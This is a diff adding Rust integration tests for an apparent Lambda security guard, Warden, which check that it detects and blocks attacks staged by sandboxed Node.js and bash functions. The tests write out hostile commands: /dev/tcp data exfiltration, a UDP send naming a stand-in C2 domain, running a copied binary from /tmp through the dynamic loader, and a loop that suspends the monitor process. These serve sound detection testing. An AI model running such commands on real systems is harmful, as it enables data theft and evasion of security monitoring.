@@ -1,6 +1,7 @@
 //! The in-process guard, loaded the way users load it: the layer's exec wrapper
 //! (`AWS_LAMBDA_EXEC_WRAPPER=/opt/warden/wrapper`) preloads it into the Python runtime and
-//! everything it runs. Each evasion of the outside view is done by the real function and must
+//! everything it runs; on the custom runtimes (Node.js on its own loop, bash) the function's
+//! bootstrap loads it, as Lambda ignores wrappers there. Each evasion of the outside view is done by the real function and must
 //! be found in real time with the right class; with a policy in `enforce` mode the forbidden
 //! call fails inside the function and the invocation still completes.
 
@@ -275,4 +276,221 @@ fn a_malformed_policy_or_no_warden_leaves_the_function_running() {
         ]);
     run.assert_ok();
     assert_eq!(run.invocations[0]["response"]["spawn"]["exit_code"], 0);
+}
+
+/// A custom-runtime function in `dir` with Warden, its own bootstrap loading the guard (Lambda
+/// ignores exec wrappers on OS-only runtimes), under `policy`.
+fn guarded_provided(dir: &str, policy: &Value) -> Sandbox {
+    let function = Sandbox::provided(repo_root().join(dir))
+        .extension("warden", bin("warden-extension"))
+        .arg("--host-link");
+    let wrapper = place_guard(&function);
+    let library = wrapper.parent().unwrap().join("lib/libwarden_guard.so");
+    let path = function.shared().join("policy.json");
+    std::fs::write(&path, policy.to_string()).unwrap();
+    let name = Path::new(dir).file_name().unwrap().to_string_lossy();
+    function
+        .env("GUARD_LIBRARY", &path_text(&library))
+        .env(
+            "WARDEN_GUARD_SOCKET",
+            &format!("warden-guard-test-{}-{name}", std::process::id()),
+        )
+        .env("WARDEN_POLICY", &path_text(&path))
+}
+
+/// Each attack between two quiet invocations, after `warm` quiet ones; returns the events and
+/// the index of the first attack.
+fn spaced(warm: usize, attacks: Vec<Value>) -> (Vec<Value>, usize) {
+    let mut events: Vec<Value> = (0..warm).map(quiet).collect();
+    let first = events.len();
+    for (i, attack) in attacks.into_iter().enumerate() {
+        events.push(attack);
+        events.push(quiet(10 + i));
+    }
+    (events, first)
+}
+
+const LOADER_EXEC: &str = "cp /bin/true /tmp/t && exec /lib64/ld-linux-x86-64.so.2 /tmp/t";
+
+#[test]
+fn node_on_its_own_loop_is_guarded_by_its_bootstrap() {
+    if !warden_sandbox::isolation::available() {
+        eprintln!("needs root for the sandbox's namespaces; skipping");
+        return;
+    }
+    let port = draining_listener(std::time::Duration::from_millis(0));
+    let policy = json!({"mode": "observe", "egress": []});
+    let (events, first) = spaced(
+        4,
+        vec![
+            json!({"send": {"host": "host.sandbox", "port": port, "bytes": 4000}}),
+            json!({"udp": {"host": "host.sandbox", "port": 53, "name": "c2data.example.com"}}),
+            json!({"spawn": ["sh", "-c", LOADER_EXEC]}),
+            json!({"stop_extension": {"ms": 300}}),
+        ],
+    );
+    let out = Outcome::of(
+        guarded_provided("tests/functions/node-guard", &policy),
+        &events,
+    );
+    assert!(
+        out.run.statuses().iter().all(|s| s == "success"),
+        "{:?}\n{}",
+        out.run.statuses(),
+        out.run.stderr
+    );
+    assert_eq!(
+        out.response(first)["send"]["sent"],
+        4000,
+        "{:#}",
+        out.response(first)
+    );
+    realtime(
+        &out,
+        first,
+        "exfiltration_egress",
+        "policy_violation",
+        |e| kind(e, "connect") && e["proto"] == "tcp",
+    );
+    // libuv sends the datagram with sendmsg and an address: no connect at all.
+    realtime(
+        &out,
+        first + 2,
+        "exfiltration_egress",
+        "policy_violation",
+        |e| kind(e, "send") && e["proto"] == "udp",
+    );
+    realtime(&out, first + 4, "dropper", "exec_from_tmp", |e| {
+        (kind(e, "exec") && e["how"] == "loader") || (kind(e, "program") && e["exe"] == "/tmp/t")
+    });
+    let stopped = &out.response(first + 6)["stop_extension"]["stopped"];
+    assert!(
+        stopped.as_array().is_some_and(|p| !p.is_empty()),
+        "{:#}",
+        out.response(first + 6)
+    );
+    realtime(&out, first + 6, "tamper", "tamper", |e| kind(e, "tamper"));
+    let health = out.health();
+    assert!(
+        health["guard_processes_total"].as_u64().unwrap() >= 1,
+        "{health:#}"
+    );
+    for i in 0..first {
+        assert!(
+            out.findings_of(i).is_empty(),
+            "benign {i}: {:#?}\nstdout:\n{}",
+            out.findings_of(i),
+            out.run.stdout
+        );
+    }
+}
+
+#[test]
+fn a_bash_runtime_is_guarded_by_its_bootstrap_down_to_its_builtins() {
+    if !warden_sandbox::isolation::available() {
+        eprintln!("needs root for the sandbox's namespaces; skipping");
+        return;
+    }
+    let port = draining_listener(std::time::Duration::from_millis(0));
+    let policy = json!({"mode": "observe", "egress": []});
+    // bash's /dev/tcp and /dev/udp and its `kill` are builtins: no new process to see.
+    let stop_warden = "for d in /proc/[0-9]*; do read -r c < \"$d/comm\" || continue; \
+                       if [ \"$c\" = warden ]; then kill -STOP \"${d#/proc/}\"; p=\"${d#/proc/}\"; fi; \
+                       done 2>/dev/null; sleep 0.3; kill -CONT \"$p\"";
+    let (events, first) = spaced(
+        4,
+        vec![
+            json!({"run": format!("exec 3<>/dev/tcp/host.sandbox/{port}; printf '%4000s' x >&3; exec 3>&-")}),
+            json!({"run": "printf 'q' > /dev/udp/host.sandbox/53"}),
+            json!({"run": LOADER_EXEC}),
+            json!({"run": stop_warden}),
+        ],
+    );
+    let out = Outcome::of(
+        guarded_provided("tests/functions/bash-guard", &policy),
+        &events,
+    );
+    assert!(
+        out.run.statuses().iter().all(|s| s == "success"),
+        "{:?}\n{}",
+        out.run.statuses(),
+        out.run.stderr
+    );
+    for i in [first, first + 2, first + 4, first + 6] {
+        assert_eq!(out.response(i)["status"], 0, "{i}: {:#}", out.response(i));
+    }
+    realtime(
+        &out,
+        first,
+        "exfiltration_egress",
+        "policy_violation",
+        |e| kind(e, "connect") && e["proto"] == "tcp",
+    );
+    realtime(
+        &out,
+        first + 2,
+        "exfiltration_egress",
+        "policy_violation",
+        |e| kind(e, "connect") && e["proto"] == "udp",
+    );
+    realtime(&out, first + 4, "dropper", "exec_from_tmp", |e| {
+        (kind(e, "exec") && e["how"] == "loader") || (kind(e, "program") && e["exe"] == "/tmp/t")
+    });
+    realtime(&out, first + 6, "tamper", "tamper", |e| kind(e, "tamper"));
+    // The loop forks curl, jq, mktemp, grep, tr and cut at every invocation: new habits while
+    // the environment learns, reported at low severity at most, never high.
+    for i in 0..first {
+        let loud: Vec<&Value> = out
+            .findings_of(i)
+            .into_iter()
+            .filter(|f| f["severity"] != "low")
+            .collect();
+        assert!(
+            loud.is_empty(),
+            "benign {i}: {loud:#?}\nstdout:\n{}",
+            out.run.stdout
+        );
+    }
+}
+
+#[test]
+fn enforce_refuses_inside_node_and_the_invocation_completes() {
+    if !warden_sandbox::isolation::available() {
+        eprintln!("needs root for the sandbox's namespaces; skipping");
+        return;
+    }
+    let port = draining_listener(std::time::Duration::from_millis(0));
+    let policy = json!({"mode": "enforce", "egress": [], "exec": ["node"]});
+    let events = vec![
+        quiet(0),
+        json!({"connect": {"host": "host.sandbox", "port": port, "count": 2}}),
+        quiet(1),
+        json!({"spawn": ["sh", "-c", "true"]}),
+        quiet(2),
+    ];
+    let out = Outcome::of(
+        guarded_provided("tests/functions/node-guard", &policy),
+        &events,
+    );
+    assert!(
+        out.run.statuses().iter().all(|s| s == "success"),
+        "{:?}\n{}",
+        out.run.statuses(),
+        out.run.stderr
+    );
+    let connect = &out.response(1)["connect"];
+    assert_eq!(connect["connected"], 0, "{connect:#}");
+    assert_eq!(connect["failed"], 2, "{connect:#}");
+    realtime(&out, 1, "exfiltration_egress", "policy_violation", |e| {
+        kind(e, "connect") && e["verdict"] == "deny"
+    });
+    // libuv reports the child's failed exec to the parent: spawnSync returns the error.
+    assert!(
+        out.response(3)["spawn"].get("error").is_some(),
+        "{:#}",
+        out.response(3)
+    );
+    realtime(&out, 3, "command_injection", "policy_violation", |e| {
+        kind(e, "exec") && e["verdict"] == "deny"
+    });
 }
